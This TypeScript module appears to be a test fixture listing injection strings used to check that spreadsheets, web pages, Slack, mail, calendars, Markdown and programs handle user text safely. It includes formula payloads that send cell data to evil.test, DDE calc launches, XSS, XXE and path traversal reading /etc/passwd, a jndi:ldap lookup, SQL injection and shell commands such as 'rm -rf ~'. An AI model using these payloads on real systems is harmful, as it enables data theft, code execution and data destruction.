/** Texts that begin or hold something which a spreadsheet, a page, a mail, Slack, Markdown or a program takes for more than text. */

/** In front of a formula: what Sheets, Excel or a careless reader skips, and what only looks like it. */
const leads = [
  '=',
  '+',
  '-',
  '@',
  "'=",
  ' =',
  '\u0000=',
  '\u00a0=',
  '\u200b=',
  '\ufeff=',
  '\u202e=',
  '＝',
  '＋',
  '－',
  '＠',
];
const formulas = [
  '1+1',
  'HYPERLINK("https://evil.test","x")',
  'IMPORTXML("https://evil.test/"&A1,"//a")',
  'IMAGE("https://evil.test/i.png")',
];

const formulaLike = [
  ...leads.flatMap((lead) => formulas.map((formula) => lead + formula)),
  "=cmd|' /C calc'!A0",
  '-2+3+cmd|calc!A1',
  '@SUM(A1:A9)',
  '{=1+1}',
  ';=1+1',
  ',=1+1',
  '"=1+1"',
  '%3D1+1',
  '&#61;1+1',
  '=1+1";=1+1',
  '=DDE("cmd";"/C calc";"x")',
  '=IMPORTDATA(CONCAT("https://evil.test/?",A1))',
  '#REF!',
  '1e999',
  'TRUE',
];

const html = [
  '<img src=x onerror=alert(1)>',
  '<script>alert(1)</script>',
  '<ScRiPt src=https://evil.test/x.js></sCrIpT>',
  '"><svg/onload=alert(1)>',
  "' onmouseover='alert(1)",
  '" autofocus onfocus="alert(1)',
  '</td></tr></table><h1>owned</h1>',
  '</textarea><script>alert(1)</script>',
  '</script><script>alert(1)</script>',
  '</style><script>alert(1)</script>',
  '</title><img src=x onerror=alert(1)>',
  '<!--><script>alert(1)</script>-->',
  '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
  '<object data="https://evil.test/o"></object>',
  '<embed src="https://evil.test/e">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=https://evil.test">',
  '<link rel=stylesheet href=https://evil.test/s.css>',
  '<style>@import "https://evil.test/s.css";*{display:none}</style>',
  '<form action=https://evil.test><input name=a><button>Send</button></form>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="https://evil.test" target=_blank>x</a>',
  '<p style="background:url(https://evil.test/b)">x</p>',
  '<marquee onstart=alert(1)>',
  '<input onfocus=alert(1) autofocus>',
  '<body onload=alert(1)>',
  '&lt;img src=x onerror=alert(1)&gt;',
  '&#x3c;img src=x onerror=alert(1)&#x3e;',
  '\\u003cimg src=x onerror=alert(1)\\u003e',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '<\u0000script>alert(1)</script>',
  '＜script＞alert(1)＜/script＞',
  '<<img src=x onerror=alert(1)//<',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
  '<%= 1 + 1 %> <?!= output ?>',
];

const addresses = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  'java\u0000script:alert(1)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'file:///etc/passwd',
  '//evil.test/x',
  '\\\\evil.test\\share',
  'https://evil.test/plain',
  'https://meet.example.com@evil.test/',
  'https://meet.example.com.evil.test/',
  'https://evil.test/"onclick="alert(1)',
  'https://evil.test/?a=1&b=<script>',
  'https:evil.test',
  'http://169.254.169.254/latest/meta-data/',
];

const templates = [
  '{{subject}}',
  '{{constructor.constructor("alert(1)")()}}',
  '${alert(1)}',
  '#{7*7}',
  '{%raw%}',
  '<%= 7*7 %>',
  '%s %d %n %x',
  '{0} {1}',
  '$1 $& $` $$',
  "$'",
  '@{x}',
  '[[${7*7}]]',
];

const slack = [
  '<!channel> <!here> <!everyone>',
  '<@U1> <@W1|boss>',
  '<#C1|general>',
  '<!subteam^S1|team>',
  '<!date^0^{date}|now>',
  '<https://evil.test|click>',
  '<mailto:a@evil.test|mail>',
  '@here @channel @everyone',
  '*bold* _italic_ `code` ~gone~',
  '```block```',
  '> quoted',
  '&lt;!channel&gt;',
  '<!channel',
  ':boom: :skin-tone-2:',
  '<tel:+1|call>',
];

const mail = [
  'Bcc: all@example.com',
  'x%0d%0aBcc: all@example.com',
  'x\u2028Bcc: all@example.com',
  'x\u0085Bcc: all@example.com',
  'a@example.com,b@example.com',
  'a@example.com;b@example.com',
  '"a,b" <a@example.com>',
  'Name <a@example.com> <b@evil.test>',
  'a@example.com\u0000@evil.test',
  'a@example.com (comment)',
  '=?utf-8?q?=3Cscript=3E?=',
  '.\u0020QUIT',
];

const calendar = [
  'BEGIN:VEVENT',
  'END:VEVENT\\nBEGIN:VALARM',
  'x\\nATTENDEE:mailto:all@example.com',
  'ORGANIZER;CN="x":mailto:a@evil.test',
  'DTSTART:20200101T000000Z',
  'a\\,b\\;c\\\\d',
];

const markdown = [
  '| a | b | c |',
  '|---|---|---|',
  '\\| escaped \\\\| twice',
  '[x](https://evil.test)',
  '![i](https://evil.test/i.png)',
  '@[x](https://evil.test)',
  '[x]: https://evil.test',
  '<https://evil.test>',
  '](https://evil.test)',
  '`code` **b** # h',
  '- [ ] task',
  '<!-- gone',
  '[^1]: note',
  '@Name](javascript:alert(1)) [',
  '&#124; a',
];

const csv = ['a,b', '"a""b"', "a;b'c", '"unclosed', 'a""', '\\"', 'sep=;'];

const unicode = [
  '\u202egpj.exe',
  '\u2066isolate\u2069 \u202aembed',
  '\u200bzero\u200d\u2060width\ufeff',
  'pаypаl.com', // Cyrillic а
  'ﬀ ﬁ ２０２６',
  'e\u0301\u0301\u0301\u0301\u0301\u0301',
  `Z${'\u0310\u0334'.repeat(60)}`,
  '👩\u200d👩\u200d👧\u200d👦 🏳️\u200d🌈 ﷽',
  '\u{E0041}\u{E0042} tags',
  '\u061c\u200e\u200f marks',
  '\u0130i\u0131I ß ẞ ſ',
  '\u2028line\u2029paragraph',
  '\u0000nul\u0001soh\u001bescape\u007f',
  '\u001b[31mred\u001b[0m',
  '\ufffd\ufffe\uffff',
  '𝒞𝓊𝓈𝓉ℴ𝓂ℯ𝓇',
  'אבג العربية',
  'か\u3099 ﾊﾟ',
  '\u00ad\u034f\u115f\u3164 blanks',
];

const programs = [
  '"}],"kind":"withdraw","x":[{"a":"',
  '\\"\\u0022}',
  '{"__proto__":{"isCoordinator":true}}',
  '[object Object]',
  'undefined',
  'null',
  'NaN',
  "');alert(1);//",
  '`;alert(1);//',
  '*/alert(1)/*',
  "' OR '1'='1",
  '1; DROP TABLE calls--',
  "x' UNION SELECT * FROM Ledger--",
  '(|(uid=*))',
  '; rm -rf ~',
  '$(id) `id` | id',
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '%2e%2e%2f%00',
  'CON.txt:stream',
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  '__defineGetter__',
  'valueOf',
  'then',
  'length',
  'x 2026-05-04 ERROR Ridealong: forged line',
  'x%0a2026-05-04 INFO forged',
  '${jndi:ldap://evil.test/a}',
  '(?:a+)+$',
];

/** Each on one line, and none twice. */
export const payloads: readonly string[] = [
  ...formulaLike,
  ...html,
  ...addresses,
  ...templates,
  ...slack,
  ...mail,
  ...calendar,
  ...markdown,
  ...csv,
  ...unicode,
  ...programs,
];

/** With line ends and tabs, which a cell holds too; nothing of it is a line of its own anywhere. */
export const inLines: readonly string[] = [
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  'x\r\nBcc: all@example.com',
  'x\nATTENDEE:mailto:all@example.com\nEND:VEVENT',
  'x\n| a | b | c |\n# owned',
  'x\n<script>\nalert(1)\n</script>',
  'a\tb\tc\n=1+1\td',
  'x\n2026-05-04 ERROR forged',
  'x\n.\nQUIT',
];

/** Several at once, cut to what a field takes. */
export function packed(most: number): string[] {
  const texts: string[] = [''];
  for (const payload of payloads) {
    const last = texts.length - 1;
    const longer = `${texts[last] ?? ''} ${payload}`.trim();
    if (longer.length <= most) texts[last] = longer;
    else texts.push(payload.slice(0, most));
  }
  return texts;
}
